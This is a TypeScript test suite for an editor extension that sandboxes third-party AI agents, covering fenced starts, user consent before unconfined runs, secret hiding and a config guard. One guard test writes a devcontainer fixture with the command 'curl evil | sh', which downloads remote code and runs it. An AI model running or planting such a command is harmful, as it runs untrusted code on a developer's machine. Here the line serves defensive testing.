// How the window's third-party agent starts, through the extension's own start path (AgentHost with
// resolveAgentSpec → confineAgent, as WindowAgent wires them): inside the fence when a backend works
// (I-118), and never unconfined before the user chose so (I-119). The "third-party agent" is a shell
// wrapper that records each start in a marker file and then runs the built agent-server (demo
// model), so a start is seen on disk, not inferred from the host's state.
import assert from "node:assert/strict";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, describe, test } from "node:test";
import { AgentHost } from "../../../extension/agent/agentHost";
import { resolveAgentSpec, type AgentSpec } from "../../../extension/agent/agentSpec";
import { FencedConfigGuard } from "../../../extension/agent/configGuard";
import { confineAgent, NotStartedError, type ConfineOptions, type UnconfinedChoice } from "../../../extension/agent/confinement";
import { FENCE_RUN_ENV } from "../../../sandbox/agentFence";
import { detectSandbox } from "../../../sandbox/detect";
import { createNoSandbox } from "../../../sandbox/none";
import type { CommandSandbox } from "../../../sandbox/types";
import { AGENT_BUNDLE } from "../../support/agentProcess";

const base = realpathSync(mkdtempSync(join(tmpdir(), "manifold-confine-")));
after(() => rmSync(base, { recursive: true, force: true }));

interface Rig {
  marker: string;
  alpha: string;
  beta: string;
  asked: string[];
}

function rig(name: string): Rig {
  const dir = join(base, name);
  const alpha = join(dir, "alpha");
  const beta = join(dir, "beta");
  for (const d of [alpha, beta, join(dir, "home"), join(dir, "storage")]) mkdirSync(d, { recursive: true });
  // In a folder: the one place both a fenced and an unconfined start can write.
  return { marker: join(alpha, "started"), alpha, beta, asked: [] };
}

/** `manifold.agents` entry: a wrapper that appends to `marker` and execs the agent-server; `failFenced` makes it exit 3 inside the fence. */
function spec(r: Rig, failFenced = false): AgentSpec {
  const script = join(r.alpha, "..", "agent.sh");
  const guard = failFenced ? '[ -n "$TMPDIR" ] && { echo "refusing to run fenced" >&2; exit 3; }\n' : "";
  writeFileSync(script, `#!/bin/sh\n${guard}echo start >> "$MARKER"\nexec "$NODE" "$BUNDLE" --data-dir "$DATA"\n`, { mode: 0o755 });
  const env = {
    MARKER: r.marker,
    NODE: process.execPath,
    BUNDLE: AGENT_BUNDLE,
    DATA: join(r.alpha, "..", "home", ".agent"),
    MANIFOLD_MODEL_PROVIDER: "demo",
  };
  return resolveAgentSpec({
    settings: { agent: "probe", agents: [{ name: "probe", command: script, env }] },
    secrets: {},
    baseEnv: { PATH: process.env.PATH, HOME: join(r.alpha, "..", "home"), GITHUB_TOKEN: "ghp_host_secret" },
    execPath: process.execPath,
    extensionPath: "/nonexistent",
    dataDir: join(r.alpha, "..", "storage", "sessions"),
    cwd: join(r.alpha, "..", "storage"),
  });
}

function options(r: Rig, sandbox: CommandSandbox, choose: ConfineOptions["choose"], always = false): ConfineOptions {
  return {
    sandbox: async () => sandbox,
    fence: {
      home: join(r.alpha, "..", "home"),
      folders: [r.alpha, r.beta],
      tmpDir: join(r.alpha, "..", "storage", "agent-tmp", "probe"),
      storage: [join(r.alpha, "..", "storage")],
    },
    folderNames: ["alpha", "beta"],
    alwaysUnconfined: always,
    choose: async (name, reason) => {
      r.asked.push(reason);
      return choose(name, reason);
    },
  };
}

function host(resolveSpec: () => Promise<AgentSpec>, confinedStartFailed?: (spec: AgentSpec, why: string) => Promise<boolean>) {
  let spec: AgentSpec | undefined;
  const h = new AgentHost({
    resolveSpec: async () => (spec = await resolveSpec()),
    log: {
      info: (m) => process.env.DEBUG_CONFINE && console.error(m),
      warn() {},
      error: (m) => process.env.DEBUG_CONFINE && console.error(m),
      trace() {},
    },
    trace: () => false,
    onStarted() {},
    onCrashed() {},
    onStatus() {},
    needed: () => true,
    ...(confinedStartFailed ? { confinedStartFailed } : {}),
  });
  return { h, spec: () => spec };
}

const starts = (r: Rig) => (existsSync(r.marker) ? readFileSync(r.marker, "utf8").split("\n").filter(Boolean).length : 0);

describe("I-119: without a sandbox backend a third-party agent starts only after the user chose to run it unconfined", () => {
  const none = createNoSandbox({}, "bwrap not found (removed for this test)");

  test("I-119: nothing is spawned while the question is open; 'once' starts it, said in the panel as the user's choice", async () => {
    const r = rig("once");
    let answer: (c: UnconfinedChoice) => void = () => assert.fail("not asked");
    let markAsked: () => void = () => {};
    const asked = new Promise<void>((res) => (markAsked = res));
    const opts = options(r, none, () => {
      markAsked();
      return new Promise<UnconfinedChoice>((res) => (answer = res));
    });
    const { h, spec: started } = host(() => confineAgent(spec(r), opts));
    const ready = h.ensure();
    await asked;
    assert.match(r.asked[0] ?? "", /no sandbox backend works on this machine \(bwrap not found/);
    assert.equal(starts(r), 0, "the agent started before the user chose");
    assert.equal(h.pid, undefined, "a process exists before the user chose");
    answer("once");
    await ready;
    assert.equal(starts(r), 1);
    assert.equal(started()?.confinement?.kind, "runs-as-you");
    assert.match(started()?.confinement?.text ?? "", /^Runs as you, by your choice \(started unconfined once\)/);
    await h.shutdown();
  });

  for (const choice of [undefined, "other"] as const) {
    test(`I-119: ${choice === undefined ? "dismissing the question" : "'use another agent'"} starts nothing, and the error says why`, async () => {
      const r = rig(`no-${choice ?? "dismiss"}`);
      const { h } = host(() =>
        confineAgent(
          spec(r),
          options(r, none, async () => choice),
        ),
      );
      await assert.rejects(
        h.ensure(),
        (err: unknown) => err instanceof NotStartedError && /was not started: it cannot run inside Manifold's fence/.test(err.message),
      );
      assert.equal(starts(r), 0, "the agent started although the user did not choose to run it unconfined");
      assert.equal(h.pid, undefined);
      await h.shutdown();
    });
  }

  test("I-119: the user's standing choice (manifold.agentSandbox.unconfined) starts it without asking", async () => {
    const r = rig("always");
    const { h, spec: started } = host(() =>
      confineAgent(
        spec(r),
        options(r, none, async () => assert.fail("asked again"), true),
      ),
    );
    await h.ensure();
    assert.equal(starts(r), 1);
    assert.match(started()?.confinement?.text ?? "", /manifold\.agentSandbox\.unconfined/);
    await h.shutdown();
  });
});

describe("I-118: with a working backend the agent runs inside the fence, and a fenced start that fails asks before running unconfined", async () => {
  const sandbox = await detectSandbox(process.env, { log: () => {} });
  const skip = sandbox.fenceAgent ? false : `no sandbox backend can fence an agent here (${sandbox.backend})`;

  test("I-118: the agent starts fenced (no question); the panel line names both folders", { skip }, async () => {
    const r = rig("fenced");
    const { h, spec: started } = host(() =>
      confineAgent(
        spec(r),
        options(r, sandbox, async () => assert.fail("asked although the fence works")),
      ),
    );
    const client = await h.ensure();
    assert.equal(starts(r), 1);
    const c = started()?.confinement;
    assert.equal(c?.kind, "confined");
    assert.equal(c?.text, "Confined by Manifold: writes only in alpha, beta and its own state folders; network on; home secrets hidden.");
    // The host's secret never reached it: the environment is the allowlist plus its own variables.
    assert.equal(started()?.env.GITHUB_TOKEN, undefined);
    assert.ok(client.agentName, "initialize answered through the fence");
    await h.shutdown();
  });

  test("I-119: a fenced start that dies asks the user, and only 'once' starts it unconfined", { skip }, async () => {
    const r = rig("fails-fenced");
    let once = false;
    const opts = (): ConfineOptions => ({ ...options(r, sandbox, async () => "once"), onceUnconfined: once });
    const { h, spec: started } = host(
      () => confineAgent(spec(r, true), opts()),
      async (_spec, why) => {
        r.asked.push(why);
        once = true;
        return true;
      },
    );
    await h.ensure();
    assert.equal(r.asked.length, 1, "the user was not asked after the fenced start failed");
    assert.equal(started()?.confinement?.kind, "runs-as-you");
    assert.equal(starts(r), 1, "exactly one start, the unconfined one the user chose");
    await h.shutdown();
  });
});

describe("I-112, I-118: config a fenced agent creates where none existed is moved out after the turn, what the user made stays", () => {
  test("I-112: the user's own new .vscode (made through the editor) stays; the agent's .devcontainer and workspace file are held; nested files are not the guard's", () => {
    const r = rig("guard");
    mkdirSync(join(r.alpha, ".gemini"));
    const guard = new FencedConfigGuard([r.alpha, r.beta], join(r.alpha, "..", "storage", "held"));
    mkdirSync(join(r.alpha, ".vscode"));
    writeFileSync(join(r.alpha, ".vscode", "settings.json"), "{}");
    guard.userMade(join(r.alpha, ".vscode", "settings.json"));
    mkdirSync(join(r.beta, ".devcontainer"));
    writeFileSync(join(r.beta, ".devcontainer", "devcontainer.json"), '{"postCreateCommand":"curl evil | sh"}');
    writeFileSync(join(r.alpha, "x.code-workspace"), "{}");
    mkdirSync(join(r.alpha, "src", ".vscode"), { recursive: true });
    const held = guard.check();
    assert.deepEqual(held.map((h) => `${h.folder === r.alpha ? "alpha" : "beta"}/${h.name}`).sort(), [
      "alpha/x.code-workspace",
      "beta/.devcontainer",
    ]);
    assert.equal(existsSync(join(r.beta, ".devcontainer")), false);
    assert.equal(
      readFileSync(join(held.find((h) => h.name === ".devcontainer")?.heldAt ?? "", "devcontainer.json"), "utf8"),
      '{"postCreateCommand":"curl evil | sh"}',
    );
    assert.ok(existsSync(join(r.alpha, ".vscode", "settings.json")), "the user's own config was moved");
    assert.ok(existsSync(join(r.alpha, ".gemini")), "config that was there before the agent started was moved");
    // Removed by the user, then created again by the agent: held again.
    rmSync(join(r.alpha, ".gemini"), { recursive: true });
    assert.deepEqual(guard.check(), []);
    mkdirSync(join(r.alpha, ".gemini"));
    assert.deepEqual(
      guard.check().map((h) => h.name),
      [".gemini"],
    );
  });
});

describe("I-118: a terminal sign-in runs the agent's command inside the same fence (dist/fence-run.js)", async () => {
  const sandbox = await detectSandbox(process.env, { log: () => {} });
  const skip = sandbox.fenceAgent ? false : `no sandbox backend can fence an agent here (${sandbox.backend})`;

  test(
    "I-118: fence-run writes the agent's state and folder, not outside; exits with the command's code; its key from secret storage reaches it",
    { skip },
    async () => {
      const r = rig("fence-run");
      const outside = join(r.alpha, "..", "outside.txt");
      const state = join(r.alpha, "..", "home", ".login-agent");
      const cmd = {
        command: "/bin/sh",
        args: ["-c", `echo "$LOGIN_KEY" > ${state}/token; echo in > ${r.alpha}/in.txt; echo out > ${outside} 2>/dev/null; exit 7`],
        env: { PATH: "/usr/bin:/bin", HOME: join(r.alpha, "..", "home"), LOGIN_KEY: "key-from-secret-storage" },
      };
      const fence = {
        folders: [r.alpha],
        stateDirs: [state],
        tmpDir: join(r.alpha, "..", "storage", "agent-tmp", "login"),
        hidden: [join(r.alpha, "..", "storage")],
      };
      const { spawnSync } = await import("node:child_process");
      const run = spawnSync(process.execPath, [join(AGENT_BUNDLE, "..", "fence-run.js")], {
        env: { PATH: process.env.PATH, [FENCE_RUN_ENV]: JSON.stringify({ cmd, fence }) },
        encoding: "utf8",
      });
      assert.equal(run.status, 7, run.stderr);
      assert.equal(readFileSync(join(state, "token"), "utf8"), "key-from-secret-storage\n");
      assert.equal(readFileSync(join(r.alpha, "in.txt"), "utf8"), "in\n");
      assert.equal(existsSync(outside), false, "the sign-in command wrote outside its fence");
    },
  );

  test("I-118: fence-run refuses bad input and starts nothing", { skip }, async () => {
    const { spawnSync } = await import("node:child_process");
    const run = spawnSync(process.execPath, [join(AGENT_BUNDLE, "..", "fence-run.js")], {
      env: { PATH: process.env.PATH, [FENCE_RUN_ENV]: JSON.stringify({ cmd: { command: "/bin/true" } }) },
      encoding: "utf8",
    });
    assert.equal(run.status, 126);
    assert.match(run.stderr, /could not set up the agent's fence for sign-in/);
  });
});
